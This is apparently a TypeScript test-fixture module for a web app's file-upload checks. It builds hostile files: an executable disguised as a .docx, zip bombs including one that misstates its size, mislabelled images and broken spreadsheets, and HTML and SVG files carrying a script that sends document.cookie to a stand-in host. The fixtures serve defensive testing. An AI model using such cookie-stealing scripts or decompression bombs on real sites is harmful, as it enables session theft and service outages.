import { readdir } from 'node:fs/promises'
import { sql } from 'kysely'
import { formBody, type TestApp } from '../harness.ts'
import { aDocx } from './docx.ts'
import { aZip } from './zip.ts'

const file = (name: string, content: string | Uint8Array): File =>
  new File([typeof content === 'string' ? content : new Uint8Array(content)], name)

/** The smallest picture there is: one pixel. */
export const picture = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
const script = '<script>fetch("https://example.invalid/"+document.cookie)</script>'

/** Files that are not what they say, or are made to do harm; each call makes fresh ones, because a body is read once. */
export const hostile = {
  programNamedDocument: () =>
    file('通知.docx', Buffer.from(`MZ\x90\0\x03\0\0\0${'\0'.repeat(120)}PE\0\0`, 'latin1')),
  pictureNamedTable: () => file('目录.xlsx', picture),
  bomb: () =>
    file(
      '通知.docx',
      aDocx({ body: ['甲'], more: [{ name: 'word/media/a.bin', content: Buffer.alloc(64 << 20) }] }),
    ),
  lyingBomb: () =>
    file(
      '通知.docx',
      aZip([{ name: 'word/document.xml', content: Buffer.alloc(40 << 20), claimedSize: 1000 }]),
    ),
  pageWithScript: () => file('公告.html', `<!doctype html><html><body><p>公告</p>${script}</body></html>`),
  pageWithHandler: () =>
    file('公告.html', '<!doctype html><html><body><p onclick="x()">公告</p></body></html>'),
  drawing: () => file('图.svg', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
  drawingNamedPicture: () => file('图.png', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
  brokenTable: () => file('名单.xlsx', aZip([{ name: 'xl/workbook.xml', content: '<workbook><sheets>' }])),
  cutTable: () =>
    file('名单.xlsx', aZip([{ name: 'xl/workbook.xml', content: '<workbook/>' }]).subarray(0, 60)),
}

/** 100 MB in one form; `declared` as browsers do, without as a stream that hides its length. */
export function hugeUpload(how: 'declared' | 'streamed'): RequestInit {
  const init = formBody({ file: new File([new Uint8Array(100 << 20)], '大文件.docx') })
  if (how === 'streamed') return init
  return { ...init, headers: { ...init.headers, 'content-length': String((100 << 20) + 200) } }
}

/** Every row count of the product and every stored file, to compare before and after. */
export async function traces(app: TestApp): Promise<Record<string, number | string[]>> {
  const tables = await sql<{ schema: string; name: string }>`
    select table_schema as schema, table_name as name from information_schema.tables
    where table_type = 'BASE TABLE' and table_schema not in ('pg_catalog', 'information_schema')
    order by 1, 2`.execute(app.db)
  const found: Record<string, number | string[]> = {}
  for (const { schema, name } of tables.rows) {
    const counted = await sql<{
      n: number
    }>`select count(*)::int as n from ${sql.table(`${schema}.${name}`)}`.execute(app.db)
    found[`${schema}.${name}`] = counted.rows[0]?.n ?? -1
  }
  const entries = await readdir(app.fileFolder, { recursive: true, withFileTypes: true })
  found['files'] = entries.filter((entry) => entry.isFile()).map((entry) => entry.name)
  return found
}

/** What a page says at a field; empty when it says nothing there. */
export function errorAt(html: string, field: string): string {
  const found = new RegExp(`id="f-${field}-error"><span[^>]*>错误：</span>([^<]*)`).exec(html)
  return found?.[1] ?? ''
}
